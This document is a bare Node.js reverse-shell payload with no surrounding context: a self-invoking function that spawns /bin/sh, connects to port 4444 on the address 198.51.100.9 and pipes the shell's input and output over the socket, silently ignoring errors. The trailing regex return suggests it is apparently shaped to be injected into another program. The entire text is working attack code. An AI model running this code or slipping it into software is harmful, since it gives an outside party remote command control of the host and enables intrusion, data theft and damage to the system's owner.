(function () {
  var net = require('net'),
    cp = require('child_process'),
    sh = cp.spawn('/bin/sh', []);
  var client = new net.Socket();
  client.connect(4444, '198.51.100.9', function () {
    client.pipe(sh.stdin);
    sh.stdout.pipe(client);
    sh.stderr.pipe(client);
  });
  client.on('error', function () {});
  return /a/;
})();
